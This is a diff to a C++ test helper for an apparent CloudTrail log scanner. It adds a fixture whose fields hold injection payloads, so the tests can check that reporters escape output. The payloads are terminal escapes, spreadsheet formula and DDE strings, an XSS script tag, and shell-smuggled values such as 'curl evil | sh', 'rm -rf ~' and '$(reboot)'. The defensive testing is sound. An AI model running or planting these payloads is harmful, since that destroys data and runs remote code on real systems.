@@ -105,6 +105,7 @@ inline std::string iam_user_record(const std::string& event_name = "CreateUser",
 #include "trailsweep/decoder.hpp"
 #include "trailsweep/scanner.hpp"
 #include "trailsweep/detector.hpp"
+#include "trailsweep/finding.hpp"
 #include "trailsweep/record_parser.hpp"
 #include "trailsweep/rule_loader.hpp"
 
@@ -197,6 +198,27 @@ inline RunSummary scan_records(EventSink& sink, const std::vector<std::string>& 
   scanner.scan_source(source, "mem", sink, summary);
   EXPECT_EQ(summary.errors_total, 0u);
   return summary;
+}
+
+/// A finding whose every string field is hostile (terminal escapes, formula
+/// prefixes, shell metacharacters, invalid UTF-8, markup), for the reporters.
+inline Finding hostile_finding() {
+  Finding f;
+  f.rule_name = "r";
+  f.title = "=HYPERLINK(\"http://evil\")";
+  f.level = Level::kCritical;
+  f.account = "111122223333";
+  f.principal = "arn:aws:iam::111122223333:user/\x1b[31mred\x1b[0m\n[CRITICAL] fake";
+  f.access_key_id = "AKIA'; rm -rf ~ #";
+  f.user_agents = {"+cmd|' /C calc'!A0", "\x1b]0;owned\x07title", "bad \xff\xfe utf8", "</script><script>alert(1)</script>"};
+  f.source_ips = {"@SUM(1+1)*cmd|' /C calc'!A0"};
+  f.regions = {"us-east-1"};
+  f.resources = {{"iam_user", "x'; curl evil | sh; echo '", ""}, {"ec2_instance", "i-1$(reboot)", "us-east-1"},
+                 {"ec2_instance_protected", "i-1$(reboot)", "us-east-1"}};
+  f.evidence.push_back({});
+  f.evidence.back().event_name = "Create\rUser";
+  f.evidence.back().file = "f.json";
+  return f;
 }
 
 }  // namespace trailsweep::testing
